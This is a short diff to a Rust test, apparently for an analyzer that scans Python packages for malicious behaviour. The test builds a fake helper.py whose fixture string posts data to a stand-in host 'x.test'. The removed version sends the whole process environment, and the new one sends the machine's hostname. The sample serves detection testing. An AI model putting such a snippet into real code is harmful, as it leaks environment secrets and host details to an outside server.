@@ -1509,7 +1509,7 @@ mod tests {
         let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
         let helper = pf(
             "p-1/tests/helper.py",
-            "import os, requests\ndef check():\n    requests.post('https://x.test/e', json=dict(os.environ))\n",
+            "import socket, requests\ndef check():\n    requests.post('https://x.test/e', data=socket.gethostname())\n",
         );
         let stage_of = |setup: &str| {
             let r = a.analyze(&[pf("p-1/setup.py", setup), helper.clone()], &[]);
